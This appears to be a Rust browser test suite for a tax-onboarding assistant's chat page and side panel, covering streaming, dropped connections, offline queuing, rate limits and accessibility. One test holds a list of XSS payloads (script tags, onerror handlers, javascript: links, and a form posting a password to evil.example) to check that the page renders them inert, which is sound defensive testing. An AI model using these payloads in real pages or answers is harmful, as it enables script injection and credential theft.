//! The assistant in a browser: its page, its panel, and what becomes of an answer when the line breaks.

use omega_tests::browser::{Browser, with_browser};
use omega_tests::{Client, Line, PASSWORD, System, eventually};
use serde_json::{Value, json};
use thirtyfour::Key;

const QUESTION: &str = "Which documents do you need from an S corporation?";
/// How its answer begins and ends.
const BEGINS: &str = "The step Your documents asks";
const ENDS: &str = "EIN letter, tax return, bank statement";

async fn sign_in(browser: &Browser, client: &Client) {
    browser.give_password("", &client.email, PASSWORD).await;
    browser.find("button", "Sign out").await;
}

async fn turns(client: &Client) -> i64 {
    let sql = "select count(*) from public.messages where client_id = $1";
    let database = client.system.database().await;
    database.value(sql, &[&client.id]).await
}

async fn script(browser: &Browser, script: &str) -> Value {
    let answer = browser.driver.execute(script, vec![]).await.unwrap();
    answer.json().clone()
}

async fn ask(browser: &Browser, question: &str) {
    browser.fill("Your message", question).await;
    browser.press_button("Send").await;
}

/// Takes the console's word for requests that the test has cut, and for nothing else.
async fn expect_cut(browser: &Browser) {
    for complaint in browser.complaints().await {
        assert!(complaint.contains("net::ERR_"), "{complaint}");
    }
}

#[tokio::test]
async fn an_answer_is_shown_as_it_comes_and_can_be_stopped_and_had_whole() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    let line = Line::to(&system.addresses.site).await;
    with_browser(&line.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.heading("What would you like to know?").await;
        browser.see("A program answers here.").await;
        line.slow();
        ask(browser, QUESTION).await;
        browser.see(BEGINS).await;
        assert!(!browser.words().await.contains(ENDS));
        browser.press_button("Stop").await;
        browser.see("You stopped this answer.").await;
        line.mend();
        assert!(!browser.words().await.contains(ENDS));
        browser.check("assistant-stopped").await;
        browser.press_button("Show the whole answer").await;
        browser.see(ENDS).await;
        browser.see("From:").await;
        let words = browser.words().await;
        assert!(!words.contains("You stopped"), "{words}");
        assert_eq!(turns(&client).await, 2);
    })
    .await;
}

#[tokio::test]
async fn a_line_that_breaks_in_the_middle_of_an_answer_loses_nothing() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    let line = Line::to(&system.addresses.site).await;
    with_browser(&line.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.heading("What would you like to know?").await;
        line.slow();
        ask(browser, QUESTION).await;
        browser.see(BEGINS).await;
        line.cut();
        browser.see("The connection was lost.").await;
        let words = browser.words().await;
        assert!(
            words.contains(QUESTION) && words.contains(BEGINS) && !words.contains(ENDS),
            "{words}"
        );
        expect_cut(browser).await;
        line.mend();
        browser.see(ENDS).await;
        browser.see("From:").await;
        let words = browser.words().await;
        assert!(!words.contains("The connection was lost"), "{words}");
        let bodies = "return [...document.querySelectorAll('.message .body')].map((body) => body.innerText.slice(0, 28));";
        assert_eq!(script(browser, bodies).await, json!([QUESTION[..28], BEGINS]));
        assert_eq!(turns(&client).await, 2);
        expect_cut(browser).await;
    })
    .await;
}

#[tokio::test]
async fn a_question_asked_without_a_network_is_sent_when_it_is_back() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.heading("What would you like to know?").await;
        // What the page draws on a phone alone is fetched while it still can be.
        browser.resize((390, 844)).await;
        browser.find("button", "Menu").await;
        browser.offline(true).await;
        ask(browser, QUESTION).await;
        browser
            .see("Your question is kept, and it goes on when you are online again.")
            .await;
        assert_eq!(turns(&client).await, 0);
        expect_cut(browser).await;
        browser.check("assistant-offline").await;
        browser.offline(false).await;
        browser.see(ENDS).await;
        assert_eq!(turns(&client).await, 2);
    })
    .await;
}

#[tokio::test]
async fn a_question_that_never_arrived_outlives_the_page() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    let line = Line::to(&system.addresses.site).await;
    with_browser(&line.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.heading("What would you like to know?").await;
        line.cut();
        ask(browser, QUESTION).await;
        browser
            .see("The connection was lost. Your question is kept")
            .await;
        expect_cut(browser).await;
        line.mend();
        browser.goto("/assistant").await;
        browser.see(QUESTION).await;
        browser.see(ENDS).await;
        assert_eq!(turns(&client).await, 2);
        expect_cut(browser).await;
    })
    .await;
}

#[tokio::test]
async fn an_answer_that_comes_while_another_page_opens_is_found_there() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    let line = Line::to(&system.addresses.site).await;
    with_browser(&line.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.heading("What would you like to know?").await;
        line.slow();
        ask(browser, QUESTION).await;
        browser.see(BEGINS).await;
        line.mend();
        browser.goto("/documents").await;
        browser.press_button("Ask the assistant").await;
        browser.see(ENDS).await;
        assert_eq!(turns(&client).await, 2);
    })
    .await;
}

#[tokio::test]
async fn too_many_questions_are_told_and_the_last_can_be_asked_again() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.heading("What would you like to know?").await;
        let empty = json!({ "message": "" });
        let posts = (0..41).map(|_| client.post("onboarding/chat", &empty));
        futures_util::future::join_all(posts).await;
        ask(browser, QUESTION).await;
        browser.see("too many tries in a short time").await;
        browser.find("button", "Try again").await;
        browser.complaints_about("429").await;
        browser.check("assistant-refused").await;
    })
    .await;
}

/// The name of what has the focus.
async fn focused(browser: &Browser) -> String {
    let name = "const e = document.activeElement; return e.getAttribute('aria-label') ?? e.labels?.[0]?.innerText ?? e.innerText;";
    script(browser, name)
        .await
        .as_str()
        .unwrap_or_default()
        .trim()
        .to_owned()
}

async fn press_key(browser: &Browser, key: Key) {
    let keys = browser.driver.action_chain().send_keys(key);
    keys.perform().await.unwrap();
}

/// Whether the page is as wide as what the panel leaves of the window, so that nothing lies under it.
const BESIDE: &str = "
const panel = document.querySelector('.ask-panel').getBoundingClientRect();
return ['header', 'main', '.site-footer > *'].every((part) => document.querySelector(part).getBoundingClientRect().right <= panel.left + 1) && panel.right <= innerWidth + 1 && panel.height >= innerHeight - 1;";

#[tokio::test]
async fn the_panel_is_opened_used_and_closed_by_keyboard() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/documents").await;
        browser.heading("Upload documents").await;
        browser.find("button", "Ask the assistant").await;
        for _ in 0..60 {
            if focused(browser).await == "Ask the assistant" {
                break;
            }
            press_key(browser, Key::Tab).await;
        }
        assert_eq!(focused(browser).await, "Ask the assistant");
        press_key(browser, Key::Enter).await;
        browser.heading("What would you like to know?").await;
        eventually("the cursor to be where one types", async || {
            (focused(browser).await == "Your message").then_some(())
        })
        .await;
        assert_eq!(script(browser, BESIDE).await, json!(true));
        browser.check("panel").await;

        let field = browser.driver.active_element().await.unwrap();
        field.send_keys(QUESTION).await.unwrap();
        press_key(browser, Key::Enter).await;
        browser.see(ENDS).await;
        browser.see("From:").await;
        browser.check("panel-answered").await;

        // It stays open from page to page, and leaves the focus alone there.
        browser.goto("/onboarding").await;
        browser.see(ENDS).await;
        assert_ne!(focused(browser).await, "Your message");
        assert_eq!(script(browser, BESIDE).await, json!(true));

        browser
            .find("field", "Your message")
            .await
            .click()
            .await
            .unwrap();
        press_key(browser, Key::Escape).await;
        eventually("the panel to be closed", async || {
            let open = script(browser, "return document.querySelector('.ask-panel').open").await;
            (open == json!(false)).then_some(())
        })
        .await;
        assert_eq!(focused(browser).await, "Ask the assistant");
        browser.goto("/documents").await;
        browser.find("button", "Ask the assistant").await;
        assert!(!browser.words().await.contains(ENDS));

        // On its own page the assistant needs no corner.
        browser.goto("/assistant").await;
        browser.see(ENDS).await;
        assert_eq!(
            script(browser, "return document.querySelector('omega-ask')").await,
            Value::Null
        );
    })
    .await;
}

#[tokio::test]
async fn on_a_phone_the_panel_is_a_sheet_over_the_whole_screen() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.resize((390, 844)).await;
        browser.goto("/documents").await;
        browser.press_button("Ask the assistant").await;
        browser.heading("What would you like to know?").await;
        let sheet = script(browser, "
            const panel = document.querySelector('.ask-panel'), { left, top, width, height } = panel.getBoundingClientRect();
            return panel.matches(':modal') && left === 0 && top === 0 && width === innerWidth && height === innerHeight && panel.contains(document.activeElement);").await;
        assert_eq!(sheet, json!(true));
        browser.press_button("What is my next step?").await;
        browser.see("Next is the step").await;
        press_key(browser, Key::Escape).await;
        eventually("the sheet to be closed", async || {
            let open = script(browser, "return document.querySelector('.ask-panel').open").await;
            (open == json!(false)).then_some(())
        })
        .await;
        assert_eq!(focused(browser).await, "Ask the assistant");
        // A link in it leads to the page, not to the sheet over the page.
        browser.press_button("Ask the assistant").await;
        browser.follow_link("About you: the first step").await;
        browser.find("button", "Ask the assistant").await;
        assert_eq!(browser.path().await, "/onboarding");
    })
    .await;
}

/// The controls, with the page scrolled to each height in turn, that can't be pressed because the button of the
/// assistant lies over it.
/// What the button lies over at each place of the page, once it had three seconds to go away; then also over a link
/// that comes to stand where the button is without a change of the page's size.
const COVERED: &str = r#"
const done = arguments[arguments.length - 1];
const pause = () => new Promise((next) => setTimeout(next, 50));
const below = () => {
  const covered = [];
  for (const control of document.querySelectorAll("main :is(a, button, input, select, textarea), footer a")) {
    const { left, right, top, bottom } = control.getBoundingClientRect();
    for (const x of [left + 1, (left + right) / 2, right - 1]) {
      const at = document.elementFromPoint(x, (top + bottom) / 2);
      if (at?.closest("omega-ask")) covered.push(`${control.outerHTML.slice(0, 60)} at ${scrollY}`);
    }
  }
  return covered;
};
const left = async () => {
  for (let tries = 0; tries < 60 && below().length > 0; tries += 1) await pause();
  return below();
};
(async () => {
  const covered = [];
  for (let y = 0; ; y += 90) {
    scrollTo(0, y);
    await pause();
    covered.push(...(await left()));
    if (y > document.documentElement.scrollHeight) break;
  }
  const { left: x, top: y, width, height } = document.querySelector("omega-ask .ask-button").getBoundingClientRect();
  const link = document.createElement("a");
  link.href = "/late";
  link.style = `position: fixed; left: ${x}px; top: ${y}px; width: ${width}px; height: ${height}px`;
  document.querySelector("main").append(link);
  covered.push(...(await left()));
  link.remove();
  done(covered);
})();
"#;

#[tokio::test]
async fn the_button_of_the_panel_never_covers_another_control() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    client.answer_everything().await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        // Where it has gone is looked at, not how it gets there.
        let still =
            json!({ "features": [{ "name": "prefers-reduced-motion", "value": "reduce" }] });
        let devtools = browser.driver.cdp();
        devtools
            .send_raw("Emulation.setEmulatedMedia", still)
            .await
            .unwrap();
        for size in [(390, 844), (320, 640), (1280, 900)] {
            browser.resize(size).await;
            for page in ["/onboarding", "/onboarding?step=business", "/documents"] {
                browser.goto(page).await;
                browser.find("heading", "").await;
                browser.find("button", "Ask the assistant").await;
                let covered = browser.driver.execute_async(COVERED, vec![]).await.unwrap();
                assert_eq!(covered.json(), &json!([]), "{page} at {size:?}");
            }
        }
    })
    .await;
}

/// What a model that was talked into it could write.
const HOSTILE: [&str; 12] = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=\"window.pwned = 1\">",
    "<svg onload=window.pwned=1><a href=javascript:window.pwned=1>x</a></svg>",
    "<iframe srcdoc=\"<script>parent.pwned = 1</script>\"></iframe>",
    "[press](javascript:window.pwned=1) [press](JaVaScRiPt:window.pwned=1) [press](java\\nscript:window.pwned=1)",
    "[press](data:text/html,<script>window.pwned=1</script>) ![x](https://evil.example/x.png) ![x](javascript:window.pwned=1)",
    "[press](vbscript:x) [press](http://evil.example/) [press](//evil.example/a) [press](blob:https://evil.example/x)",
    "[your bank](https://user:pass@evil.example/) [press](https://evil.example/\\\"onmouseover=window.pwned=1)",
    "<a href=\"https://evil.example\" onclick=\"window.pwned=1\">press</a> <https://evil.example/auto>",
    "| a | <img src=x onerror=window.pwned=1> |\\n|---|---|\\n| [x](javascript:window.pwned=1) | <b>b</b> |",
    "```html\\n<script>window.pwned = 1</script>\\n```\\n`<img src=x onerror=window.pwned=1>`",
    "- <style>body { display: none }</style>\\n- <form action=https://evil.example><input name=password></form>",
];

#[tokio::test]
async fn whatever_an_answer_holds_is_shown_and_never_run() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    let database = system.database().await;
    let deep = format!("{}x", ">".repeat(4000));
    for content in HOSTILE
        .into_iter()
        .chain([deep.as_str(), "A **bold** word and a [page](/documents)"])
    {
        let content = content.replace("\\n", "\n");
        let sources = json!([{ "title": "A source", "url": "javascript:window.pwned=1" }, { "title": "Another", "url": "blob:https://evil.example/x" }]);
        database
            .rows(
                "insert into public.messages (client_id, author, content, sources) values ($1, 'assistant', $2, $3)",
                &[&client.id, &content, &sources],
            )
            .await;
    }
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.see("A bold word and a page").await;
        let words = browser.words().await;
        for shown in ["<script>window.pwned = 1</script>", "<img src=x onerror=", "<style>body", "(evil.example)"] {
            assert!(words.contains(shown), "{shown} in {words}");
        }
        let alien = script(browser, "
            const list = document.querySelector('.messages');
            const known = ['li', 'p', 'strong', 'em', 'del', 'code', 'pre', 'ul', 'ol', 'blockquote', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'div', 'span', 'a', 'button'];
            const tags = [...list.querySelectorAll('*')].filter((e) => !known.includes(e.localName)).map((e) => e.outerHTML);
            const links = [...list.querySelectorAll('a')].filter((a) => a.protocol !== 'https:' && a.origin !== location.origin || a.username || !['http:', 'https:'].includes(a.protocol)).map((a) => a.outerHTML);
            const handlers = [...list.querySelectorAll('*')].filter((e) => [...e.attributes].some(({ name }) => name.startsWith('on') || name === 'style')).map((e) => e.outerHTML);
            return [...tags, ...links, ...handlers, ...(window.pwned ? ['it ran'] : [])];").await;
        assert_eq!(alien, json!([]));
        browser.check("assistant-hostile").await;
    })
    .await;
}

#[tokio::test]
async fn a_long_conversation_is_read_back_page_by_page() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    system
        .database()
        .await
        .rows(
            "insert into public.messages (client_id, author, content, created_at)
             select $1, case n % 2 when 0 then 'assistant' else 'client' end, 'message ' || n || '.', timestamptz '2026-01-01Z' + n * interval '1 minute'
             from generate_series(1, 46) as n",
            &[&client.id],
        )
        .await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.see("message 46.").await;
        let shown = async || {
            script(
                browser,
                "return document.querySelectorAll('.messages > li').length",
            )
            .await
        };
        assert_eq!(shown().await, json!(20));
        browser.press_button("Show older messages").await;
        browser.see("message 7.").await;
        assert_eq!(shown().await, json!(40));
        browser.press_button("Show older messages").await;
        browser.see("message 1.").await;
        assert_eq!(shown().await, json!(46));
        assert!(!browser.words().await.contains("Show older messages"));
        browser.check("assistant-long").await;
    })
    .await;
}

#[tokio::test]
async fn an_answer_can_be_copied() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    client
        .post("onboarding/chat", &json!({ "message": QUESTION }))
        .await
        .expect(200);
    with_browser(&system.addresses.site, async |browser: &Browser| {
        let permissions = json!({ "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"] });
        browser
            .driver
            .cdp()
            .send_raw("Browser.grantPermissions", permissions)
            .await
            .unwrap();
        sign_in(browser, &client).await;
        browser.goto("/assistant").await;
        browser.press_button("Copy").await;
        browser.see("Copied").await;
        let copied = browser
            .driver
            .execute_async("navigator.clipboard.readText().then(arguments[0], (error) => arguments[0](String(error)))", vec![])
            .await
            .unwrap();
        let copied = copied.json().as_str().unwrap_or_default().to_owned();
        assert!(copied.starts_with(BEGINS) && copied.contains(ENDS), "{copied}");
    })
    .await;
}

/// The system under test answers by itself; the page is told of another backend in the place of the Worker's word.
#[tokio::test]
async fn an_outside_model_is_named_before_anything_is_asked() {
    let system = System::connect().await;
    let client = system.sign_up().await;
    with_browser(&system.addresses.site, async |browser: &Browser| {
        sign_in(browser, &client).await;
        let other = r#"
            const { json } = Response.prototype;
            Response.prototype.json = async function () {
              const value = await json.call(this);
              return value.backend ? { ...value, backend: "example-model-2" } : value;
            };"#;
        browser
            .driver
            .cdp()
            .send_raw(
                "Page.addScriptToEvaluateOnNewDocument",
                json!({ "source": other }),
            )
            .await
            .unwrap();
        browser.goto("/assistant").await;
        browser
            .see("The language model example-model-2 answers here and can be wrong.")
            .await;
        browser.check("assistant-outside-model").await;
    })
    .await;
}
